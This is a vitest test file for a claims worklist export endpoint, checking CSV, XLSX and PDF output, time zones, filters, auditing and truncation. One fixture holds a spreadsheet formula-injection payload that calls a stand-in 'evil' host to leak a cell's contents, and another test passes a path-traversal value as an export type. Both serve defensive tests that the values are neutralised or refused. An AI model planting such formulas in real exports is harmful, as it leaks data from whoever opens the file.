import { afterAll, beforeAll, expect, test } from 'vitest'
import type { TestApi, Visitor } from '#testing/api.ts'
import { idOf } from '#testing/fixtures.ts'
import { sheetsOf, timeOfSheet } from '#testing/spreadsheet.ts'
import { worklist } from './contract.ts'
import { addClaimant, addRequests, hoursFrom, openWorklist } from './testing-requests.ts'

let api: TestApi
let now: Date
let close: () => Promise<void>
let adjuster: Visitor
const evil = '=HYPERLINK("http://evil?"&A1)'

beforeAll(async () => {
  ;({ api, now, close } = await openWorklist())
  const claimId = await addClaimant(api.db, {
    first: 'Łukasz',
    last: evil,
    normalizeForSearch: ['hyperlink', 'lukasz'],
    claimNumber: '00123',
  })
  await addRequests(
    api.db,
    [
      {
        name: 'first',
        due: '2026-01-05T16:27:00.000Z',
        received: '2026-01-02T05:30:00.000Z',
        claimId,
        rejects: ['75', '922'],
      },
      { name: 'second', due: hoursFrom(now, 900), state: 'CA', more: { estimated_cost: null } },
      { name: 'third', due: hoursFrom(now, 901), owners: ['adj.aaa2'] },
      { name: 'decided', status: 30 },
      { name: 'theirs', mc: 'BBB', owners: ['adj.bbb'] },
    ],
    now,
  )
  adjuster = await api.signIn('adj.aaa')
})
afterAll(() => close())

/** Rows of a CSV in which every field is quoted. */
const rowsOf = (text: string): string[][] =>
  text
    .replace(/^\u{feff}/u, '')
    .split('\r\n')
    .filter(Boolean)
    .map((line) => [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map(([, cell]) => cell!.replaceAll('""', '"')))
const csv = async (who: Visitor, more: object = {}) => {
  const answer = await who.ask(worklist.export, { type: 'csv', ...more } as never)
  return { ...answer, rows: rowsOf(answer.text) }
}

test('the file has the rows of the list in its order', async () => {
  const { status, headers, text, rows } = await csv(adjuster, { caseOwners: ['me'] })
  expect(status).toBe(200)
  expect(headers['content-type']).toBe('text/csv; charset=utf-8')
  expect(headers['content-disposition']).toContain('filename="authSummaryExportToExcel.csv"')
  expect(headers['cache-control']).toBe('no-store')
  expect(text.startsWith('\u{feff}"Reference number","Status"')).toBe(true)
  const screen = (await adjuster.ask(worklist.search, { mc: 'AAA', caseOwners: ['me'] })).body.content
  expect(rows.slice(1, 3).map((row) => row[0])).toEqual(screen.map((row) => row.referenceNumber))
  const turned = await csv(adjuster, { caseOwners: ['me'], sort: 'statutoryDueAt,desc' })
  expect(turned.rows.slice(1, 3).map((row) => row[0])).toEqual(screen.map((row) => row.referenceNumber).reverse())
})

test('a name is no formula, a claim number keeps its zeros, an NDC its hyphens, an amount is a number, every line has the same width', async () => {
  const { rows } = await csv(adjuster, { caseOwners: ['me'] })
  const cell = (label: string) => rows[1]![rows[0]!.indexOf(label)]
  expect(cell('Claimant')).toBe(`'${evil}, Łukasz`)
  expect(cell('Claim number')).toBe('00123')
  expect(cell('NDC')).toBe('98001-0010-01')
  expect(cell('Estimated cost')).toBe('142.6')
  expect(cell('Reject codes')).toBe('75, 922')
  expect(cell('Date of birth')).toBe('02/03/1980')
  expect(new Set(rows.map((row) => row.length)).size).toBe(1)
})

test('times are in the requested zone, else the user’s; an unknown zone is New York', async () => {
  const due = async (timeZone?: string) => {
    const { rows } = await csv(adjuster, { caseOwners: ['me'], timeZone })
    return [
      rows[1]![rows[0]!.indexOf('Due')],
      rows.find((row) => row[0]!.startsWith('Exported by'))![0]!.replace(/^.*(?=Times)/, ''),
    ]
  }
  expect(await due()).toEqual(['01/05/2026 11:27 AM EST', 'Times are in America/New_York.'])
  expect(await due('America/Los_Angeles')).toEqual(['01/05/2026 08:27 AM PST', 'Times are in America/Los_Angeles.'])
  expect(await due('Mars/Base')).toEqual(['01/05/2026 11:27 AM EST', 'Times are in America/New_York.'])
})

test('an exported file says who made it and which requests its filters leave out', async () => {
  const { rows } = await csv(adjuster, {
    caseOwners: ['me', idOf('adj.aaa2')],
    pendingAuthFilterParams: {
      jurisState: ['FL'],
      rejectCode: ['75'],
      prescriber: idOf('prescriber'),
      startDate: '20250101',
    },
  })
  const remarks = rows.slice(rows.findIndex((row) => row[0]!.startsWith('Exported by'))).map((row) => row[0])
  expect(remarks[0]).toMatch(
    /^Exported by Adj aaa \(adj\.aaa\), \d\d\/\d\d\/\d{4} \d\d:\d\d [AP]M E[SD]T\. Times are in America\/New_York\.$/,
  )
  expect(remarks.slice(1)).toEqual([
    'Status: all pending',
    'Case owner: own and delegated, Adj aaa2',
    'State: FL',
    expect.stringMatching(/^Reject codes: 75 /),
    'Prescriber: Hawthorne, Ansel',
    'Received: from 01/01/2025',
  ])
})

test('requested columns are exported alone, in their order', async () => {
  const { rows } = await csv(adjuster, { caseOwners: ['me'], columns: ['claimNumber', 'due', 'claimNumber'] })
  expect(rows[0]).toEqual(['Claim number', 'Due'])
  expect((await adjuster.ask(worklist.export, { type: 'csv', columns: ['ssn'] } as never)).status).toBe(400)
})

test('a selection exports only the selected requests within the search', async () => {
  const { rows } = await csv(adjuster, { authorizationIds: [idOf('second'), idOf('theirs'), idOf('decided')] })
  expect(rows.filter((row) => /^\d{12}$/.test(row[0]!))).toHaveLength(1)
  expect(rows.map((row) => row[0])).toContain('Selected requests only: 3')
})

test('completed requests have their own file and columns', async () => {
  const { headers, rows } = await csv(adjuster, { complete: true })
  expect(headers['content-disposition']).toContain('filename="completeAuthSummaryExportToExcel.csv"')
  expect(rows[0]).toContain('Decided by')
  expect(rows[1]![1]).toBe('Approved')
})

test('a search without matches exports a file without requests', async () => {
  const { status, rows } = await csv(adjuster, { authSearchKey: 'C', authSearchValue: 'none such' })
  expect(status).toBe(200)
  expect(rows[1]![0]).toMatch(/^Exported by|^$/)
  expect(rows.filter((row) => /^\d{12}$/.test(row[0]!))).toEqual([])
})

test('a spreadsheet has the rows of the CSV: digits that are names as text, amounts and times as spreadsheets have them', async () => {
  const answer = await adjuster.ask(worklist.export, { type: 'XLSX', caseOwners: ['me'] })
  expect(answer.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
  expect(answer.headers['content-disposition']).toContain('filename="authSummaryExportToExcel.xlsx"')
  const [data, about] = sheetsOf(answer.bytes)
  const { rows } = await csv(adjuster, { caseOwners: ['me'] })
  const records = rows.slice(
    0,
    rows.findIndex((row, at) => at > 0 && row[0] === ''),
  )
  expect(data!.rows).toHaveLength(records.length)
  const heads = data!.rows[0]!.map((cell) => cell?.value ?? '')
  expect(heads.map((head) => head.replace(/ \(.+\/.+\)$/, ''))).toEqual(records[0])
  const cell = (label: string) => data!.rows[1]![records[0]!.indexOf(label)]
  for (const label of ['Reference number', 'Claim number', 'NDC', 'Claimant', 'Reject codes'])
    expect(cell(label)).toEqual({
      kind: 'text',
      value: records[1]![records[0]!.indexOf(label)]!.replace(/^'/, ''),
      look: 1,
    })
  expect(cell('Estimated cost')).toEqual({ kind: 'number', value: '142.6', look: 0 })
  const due = timeOfSheet(cell('Due')!.value)
  const inCsv = records[1]![records[0]!.indexOf('Due')]!
  expect(heads[records[0]!.indexOf('Due')]).toMatch(/^Due \([A-Z]\w+\/\w+\)$/)
  expect(`${due.slice(5, 7)}/${due.slice(8, 10)}/${due.slice(0, 4)}`).toBe(inCsv.slice(0, 10))
  expect(timeOfSheet(cell('Date of birth')!.value)).toBe('1980-02-03T00:00')
  expect(about!.rows[0]![0]!.value).toMatch(/^Exported by .+ Times are in /)
})

test('PDF in any case is a PDF of the same requests', async () => {
  for (const type of ['pdf', 'PDF', 'Pdf']) {
    const answer = await adjuster.ask(worklist.export, { type, caseOwners: ['me'] })
    expect(answer.status).toBe(200)
    expect(answer.headers['content-type']).toBe('application/pdf')
    expect(answer.headers['content-disposition']).toContain('filename="authSummaryExportToPDF.pdf"')
    expect(answer.text.slice(0, 5)).toBe('%PDF-')
  }
  expect((await adjuster.ask(worklist.export, { type: 'Csv' })).headers['content-type']).toBe('text/csv; charset=utf-8')
})

test.each(['xls', 'csv2', ' ', 'csvpdf', 'csv/../../x'])(
  'the type %j is refused with the message of the service list',
  async (type) => {
    const answer = await adjuster.ask(worklist.export, { type })
    expect([answer.status, answer.body.status]).toEqual([
      400,
      { code: 'UNKNOWN_EXPORT_TYPE', message: 'Unknown export type. Allowed types CSV or PDF' },
    ])
  },
)

test('a user of a carrier with PDF exports switched off is refused one', async () => {
  await api.db.query(`insert into feature_flag_override (mc, key, enabled) values ('AAA', 'pdfExportEnabled', false)`)
  const answer = await adjuster.ask(worklist.export, { type: 'pdf' })
  expect([answer.status, answer.body.status.code]).toEqual([403, 'FEATURE_OFF'])
  expect((await adjuster.ask(worklist.export, { type: 'csv' })).status).toBe(200)
  await api.db.query(`delete from feature_flag_override`)
})

test('a read-only user may export their own scope, and every claim is audited', async () => {
  await api.db.query('delete from access_audit')
  const reader = await api.signIn('read.only')
  const { rows, text } = await csv(reader)
  expect(rows.filter((row) => /^\d{12}$/.test(row[0]!))).toHaveLength(3)
  expect(text).not.toContain('ZZBBBCANARY')
  const audit = (await api.db.query(`select call, claim_ids, object_type, detail from access_audit order by id`)).rows
  expect(audit).toHaveLength(2)
  expect(audit[0]).toMatchObject({
    call: 'worklist.export',
    object_type: 'export',
    detail: { rows: 3, truncated: false },
  })
  expect(audit[0].claim_ids).toHaveLength(2)
  expect(audit[1]).toMatchObject({ object_type: 'export end', detail: { rows: 3, complete: true } })
  expect((await reader.ask(worklist.export, { type: 'csv', masterCarrier: 'BBB' })).status).toBe(404)
})

test('a PDF that is too long ends with the number of missing rows', async () => {
  await addRequests(
    api.db,
    Array.from({ length: 2005 }, (_, at) => ({ name: `long ${at}`, owners: ['clin.aaa'], due: hoursFrom(now, at) })),
    now,
  )
  await api.db.query('analyze') // As autovacuum would: plans made for six rows are replaced.
  const pharmacist = await api.signIn('clin.aaa')
  const csvFile = await csv(pharmacist, { caseOwners: ['me'] })
  expect(csvFile.status).toBe(200)
  expect(csvFile.rows.filter((row) => /^\d{12}$/.test(row[0]!))).toHaveLength(2005)
  expect(new Set(csvFile.rows.map((row) => row[0]).filter((cell) => /^\d{12}$/.test(cell!))).size).toBe(2005)
  expect(csvFile.text).not.toContain('Only the first')
  await api.db.query('delete from access_audit')
  expect((await pharmacist.ask(worklist.export, { type: 'pdf', caseOwners: ['me'] })).status).toBe(200)
  const { rows } = await api.db.query(`select detail from access_audit`)
  expect(rows[0].detail).toMatchObject({ rows: 2000, truncated: true, file: 'authSummaryExportToPDF.pdf' })
})
